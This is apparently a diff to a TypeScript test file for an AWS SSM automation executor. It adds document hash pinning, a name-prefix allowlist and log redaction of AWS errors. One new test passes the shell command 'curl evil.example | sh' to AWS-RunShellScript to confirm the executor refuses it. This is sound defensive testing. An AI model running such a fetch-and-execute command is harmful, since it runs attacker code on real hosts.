@@ -11,6 +11,7 @@ import {
   EXTERNAL_ID,
   startAwsTestEnvironment,
 } from '../__testUtils__/awsTestEnvironment';
+import { FakeAutomationDocument } from '../__testUtils__/fakeAws/services/ssm';
 import { AwsClients } from '../clients/AwsClients';
 import { remediationCredentialsManager } from '../clients/remediationCredentials';
 import { RemediationTargets } from './remediationTarget';
@@ -38,6 +39,29 @@ const incident: Incident = {
   updatedAt: '2026-11-22T12:00:00.000Z',
   labels: {},
   signalCount: 1,
+};
+
+/** The restart document, version 1: reboots, then waits for status checks. */
+const restartDocument: FakeAutomationDocument = {
+  Name: RESTART,
+  Description: 'Reboots an EC2 instance',
+  Parameters: [
+    { Name: 'InstanceId', Type: 'String' },
+    { Name: 'AutomationAssumeRole', Type: 'String' },
+  ],
+  steps: [
+    {
+      name: 'reboot',
+      action: 'aws:executeAwsApi',
+      outputs: { RequestId: ['r-1'] },
+    },
+    {
+      name: 'waitForStatusChecks',
+      action: 'aws:waitForAwsResourceProperty',
+      outputs: { Status: ['ok'] },
+    },
+  ],
+  tags: { 'cloudops:cost-impact': 'neutral' },
 };
 
 const SNAPSHOT_AND_DELETE = 'CloudOps-SnapshotAndDeleteVolume';
@@ -73,6 +97,7 @@ describe('SsmAutomationExecutor', () => {
   let env: AwsTestEnvironment;
   let clients: AwsClients;
   let executor: SsmAutomationExecutor;
+  let logger: ReturnType<typeof mockServices.logger.mock>;
   let progress: Array<{ message: string; data?: Record<string, unknown> }>;
 
   const run = (overrides: Partial<RemediationRun> = {}): RemediationRun => ({
@@ -93,27 +118,7 @@ describe('SsmAutomationExecutor', () => {
   beforeEach(async () => {
     env = await startAwsTestEnvironment([A, B]);
     env.fake.addAccount(A, { name: REMEDIATION_ROLE, externalId: EXTERNAL_ID });
-    env.fake.ssm.addDocument(A, REGION, {
-      Name: RESTART,
-      Description: 'Reboots an EC2 instance',
-      Parameters: [
-        { Name: 'InstanceId', Type: 'String' },
-        { Name: 'AutomationAssumeRole', Type: 'String' },
-      ],
-      steps: [
-        {
-          name: 'reboot',
-          action: 'aws:executeAwsApi',
-          outputs: { RequestId: ['r-1'] },
-        },
-        {
-          name: 'waitForStatusChecks',
-          action: 'aws:waitForAwsResourceProperty',
-          outputs: { Status: ['ok'] },
-        },
-      ],
-      tags: { 'cloudops:cost-impact': 'neutral' },
-    });
+    env.fake.ssm.addDocument(A, REGION, restartDocument);
     clients = new AwsClients({
       credentialsManager: remediationCredentialsManager(
         new ConfigReader({ aws: env.awsConfig }),
@@ -124,6 +129,7 @@ describe('SsmAutomationExecutor', () => {
       logger: mockServices.logger.mock(),
       backoffMs: 5,
     });
+    logger = mockServices.logger.mock();
     executor = new SsmAutomationExecutor({
       clients,
       targets: new RemediationTargets({
@@ -151,9 +157,11 @@ describe('SsmAutomationExecutor', () => {
         roleName: REMEDIATION_ROLE,
         automationRoleName: 'cloudops-automation',
         dryRunParameter: 'DryRun',
+        documentPrefixes: ['CloudOps-'],
         pollIntervalMs: 5,
         maxPollIntervalMs: 20,
       },
+      logger,
     });
     progress = [];
   });
@@ -162,6 +170,9 @@ describe('SsmAutomationExecutor', () => {
     clients.destroy();
     await env.stop();
   });
+
+  /** What the executor logged at warn. */
+  const warnings = () => logger.warn.mock.calls.map(([message]) => message);
 
   const ssmCallers = () =>
     env.fake
@@ -175,7 +186,10 @@ describe('SsmAutomationExecutor', () => {
       targets: ['i-0abc1234def567890'],
       costImpact: 'neutral',
       summary: `SSM Automation ${RESTART} (version 1) in ${A} ${REGION}: Reboots an EC2 instance`,
-      pin: { documentVersion: '1' },
+      pin: {
+        documentVersion: '1',
+        documentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
+      },
     });
     expect(ssmCallers()).toEqual([
       expect.stringContaining(`:assumed-role/${REMEDIATION_ROLE}/`),
@@ -259,10 +273,9 @@ describe('SsmAutomationExecutor', () => {
           e => e,
         );
         expect(error).toMatchObject({ retryable: false });
-        expect(error.message).toMatch(
-          `SSM document ${RESTART} version 1, the version planned and approved, no longer exists in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run`,
+        expect(error.message).toBe(
+          `SSM document ${RESTART} version 1, the version planned and approved, no longer exists in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run; request it again to plan the current version (${code})`,
         );
-        expect(error.message).toContain(`(${code}: `);
       };
       // Deleted between the check (DescribeDocument) and the start.
       const { service } = env.fake.ssm;
@@ -291,6 +304,52 @@ describe('SsmAutomationExecutor', () => {
       expect(env.fake.ssm.executionsIn(A)).toEqual([]);
     });
 
+    /** The document deleted and created again: version 1 once more. */
+    const recreateDocument = (
+      changes: Partial<FakeAutomationDocument> = {},
+    ) => {
+      env.fake.ssm.deleteDocument(A, REGION, RESTART);
+      env.fake.ssm.addDocument(A, REGION, { ...restartDocument, ...changes });
+    };
+
+    it('fails the run for good, saying the document changed, when that version has other content (deleted and created again)', async () => {
+      const { pin } = await executor.plan(run());
+      recreateDocument({
+        steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
+      });
+      for (const dryRun of [true, false]) {
+        await expect(
+          executor.execute(run({ pinned: pin, dryRun })),
+        ).rejects.toMatchObject({
+          retryable: false,
+          message: `SSM document ${RESTART} version 1, the version planned and approved, has other content now in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run; request it again to plan the current version (its Sha256 hash is not the one approved)`,
+        });
+      }
+      expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
+      expect(env.fake.ssm.executionsIn(A)).toEqual([]);
+    });
+
+    it('runs a version created again with the same content, and checks a pin stored without a hash (before hashes) by its version only', async () => {
+      const { pin } = await executor.plan(run());
+      recreateDocument();
+      await expect(
+        executor.execute(run({ pinned: pin })),
+      ).resolves.toMatchObject({ status: 'succeeded' });
+
+      recreateDocument({
+        steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
+      });
+      await executor.execute(
+        run({
+          pinned: { documentVersion: '1' },
+          idempotencyKey: 'cloudops-old-pin-execute',
+        }),
+      );
+      expect(
+        env.fake.ssm.executionsIn(A).map(e => e.StepExecutions[0].StepName),
+      ).toEqual(['reboot', 'terminate']);
+    });
+
     it('is the default version at the time for a run planned without a pin (before pins existed)', async () => {
       changeDocument();
       await executor.execute(run());
@@ -303,11 +362,12 @@ describe('SsmAutomationExecutor', () => {
   });
 
   it('reports a failed step and a failed outcome', async () => {
+    const failure = `An error occurred (AccessDeniedException) when calling the RebootDBInstance operation: User: arn:aws:sts::${A}:assumed-role/cloudops-automation/x is not authorized to perform: rds:RebootDBInstance on resource: arn:aws:rds:${REGION}:${A}:db:checkout-db`;
     env.fake.ssm.addDocument(A, REGION, {
       Name: 'CloudOps-RebootRdsInstance',
       Parameters: [{ Name: 'DBInstanceIdentifier', Type: 'String' }],
       steps: [
-        { name: 'reboot', action: 'aws:executeAwsApi', failure: 'Throttled' },
+        { name: 'reboot', action: 'aws:executeAwsApi', failure },
         { name: 'wait', action: 'aws:waitForAwsResourceProperty' },
       ],
     });
@@ -317,14 +377,24 @@ describe('SsmAutomationExecutor', () => {
         parameters: { DBInstanceIdentifier: 'checkout-db' },
       }),
     );
+    const [{ AutomationExecutionId: id }] = env.fake.ssm.executionsIn(A);
+    // The error's code, not AWS's message (an account, ARNs, a role).
     expect(outcome).toMatchObject({
       status: 'failed',
-      summary: expect.stringMatching(/ended Failed: .*Throttled/),
+      summary: `automation execution ${id} ended Failed at step reboot (aws:executeAwsApi): AccessDeniedException, see the backend's log for SSM's message`,
     });
     expect(progress.map(p => p.message)).toEqual([
       expect.stringMatching(/^following automation execution/),
-      'step reboot (aws:executeAwsApi) Failed: Throttled',
+      "step reboot (aws:executeAwsApi) Failed: AccessDeniedException, see the backend's log for SSM's message",
       'step wait (aws:waitForAwsResourceProperty) Cancelled',
+    ]);
+    expect(warnings()).toEqual([
+      `SSM automation execution ${id} in ${A} ${REGION}: step reboot Failed: ${failure}`,
+      expect.stringMatching(
+        new RegExp(
+          `^SSM automation execution ${id} in ${A} ${REGION} ended Failed: .*arn:aws:rds:`,
+        ),
+      ),
     ]);
   });
 
@@ -402,11 +472,21 @@ describe('SsmAutomationExecutor', () => {
       executor.execute(run({ finalAttempt: false })),
     ).rejects.toMatchObject({
       retryable: false,
-      message: expect.stringContaining('ssm:GetAutomationExecution'),
+      message: `SSM GetAutomationExecution in ${A} ${REGION} was refused: not authorized (AccessDeniedException); the backend's log has AWS's message`,
     });
-    expect(env.fake.ssm.executionsIn(A)[0].AutomationExecutionStatus).toBe(
-      'Cancelled',
+    const [execution] = env.fake.ssm.executionsIn(A);
+    expect(execution.AutomationExecutionStatus).toBe('Cancelled');
+    expect(progress.at(-1)?.message).toBe(
+      `stopped automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}: the step gave up following it (SSM GetAutomationExecution in ${A} ${REGION} was refused: not authorized (AccessDeniedException); the backend's log has AWS's message)`,
     );
+    // AWS's message, with the role's ARN, is in the log.
+    expect(warnings()).toEqual([
+      expect.stringMatching(
+        new RegExp(
+          `^SSM GetAutomationExecution failed: ${A} ${REGION}: AccessDeniedException: .*arn:aws:sts::${A}:assumed-role/${REMEDIATION_ROLE}/.*not authorized to perform: ssm:GetAutomationExecution`,
+        ),
+      ),
+    ]);
   });
 
   it('fails the last attempt with its own error when stopping the execution fails too, and says so', async () => {
@@ -422,16 +502,54 @@ describe('SsmAutomationExecutor', () => {
     const failed = executor.execute(run({ finalAttempt: true }));
     await expect(failed).rejects.toMatchObject({
       retryable: true,
-      message: `SSM ${A} ${REGION}: InternalFailure: The request processing has failed because of an unknown error`,
+      message: `SSM GetAutomationExecution in ${A} ${REGION} failed on AWS's side or on the way there, also after retries (InternalFailure); the backend's log has AWS's message`,
     });
     const [execution] = env.fake.ssm.executionsIn(A);
     expect(execution.AutomationExecutionStatus).toBe('InProgress');
     expect(env.fake.callsTo('ssm', 'StopAutomationExecution')).toHaveLength(1);
-    expect(progress.at(-1)?.message).toMatch(
-      new RegExp(
-        `^could not stop automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}, which may still be running: .*not authorized to perform: ssm:StopAutomationExecution`,
+    expect(progress.at(-1)?.message).toBe(
+      `could not stop automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}, which may still be running: SSM StopAutomationExecution in ${A} ${REGION} was refused: not authorized (AccessDeniedException); the backend's log has AWS's message`,
+    );
+    expect(warnings()).toContainEqual(
+      expect.stringMatching(
+        /^SSM StopAutomationExecution failed: .*not authorized to perform: ssm:StopAutomationExecution/,
       ),
     );
+  });
+
+  it('runs only documents whose name starts with an allowed prefix: any other is refused when planned and when run, before AWS is asked', async () => {
+    env.fake.ssm.addDocument(A, REGION, {
+      Name: 'AWS-RunShellScript',
+      Parameters: [{ Name: 'commands', Type: 'StringList' }],
+    });
+    const shell = {
+      ref: 'AWS-RunShellScript',
+      parameters: { commands: ['curl evil.example | sh'] },
+    };
+    const refusal = {
+      name: 'InputError',
+      message:
+        'SSM document AWS-RunShellScript is not one CloudOps may run: its name must start with CloudOps- (cloudops.aws.ssm.documentPrefixes)',
+    };
+    await expect(executor.plan(run(shell))).rejects.toMatchObject(refusal);
+    // A request stored before (or planned with other settings) does not run.
+    for (const dryRun of [true, false]) {
+      await expect(
+        executor.execute(
+          run({ ...shell, dryRun, pinned: { documentVersion: '1' } }),
+        ),
+      ).rejects.toMatchObject(refusal);
+    }
+    // Nor by the ARN of a shared document.
+    await expect(
+      executor.execute(
+        run({
+          ...shell,
+          ref: `arn:aws:ssm:${REGION}:${B}:document/AWS-RunShellScript`,
+        }),
+      ),
+    ).rejects.toMatchObject(refusal);
+    expect(env.fake.callsTo('ssm')).toEqual([]);
   });
 
   it('dry-runs a document that declares DryRun by starting it so, and only checks one that does not', async () => {
